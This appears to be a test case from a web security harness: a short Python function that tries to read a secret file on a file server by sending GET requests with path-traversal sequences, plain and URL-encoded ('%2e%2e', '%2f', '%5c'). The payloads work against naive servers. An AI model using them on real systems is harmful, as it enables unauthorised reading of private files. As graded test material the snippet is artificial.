# aim: read a file of the server's machine
# mechanism: steps upwards in the address itself, encoded and not
# server: files
# plain: naive

def attack():
    for dots in ("..", "%2e%2e", "..%2f..", "%2e%2e%2f%2e%2e", "..%5c.."):
        ask("GET", f"{here}/files/{dots}/{dots}/{dots}/{dots}/{dots}/{dots}/{dots}/{dots}/{dots}{secret_path}")


judge(attack)
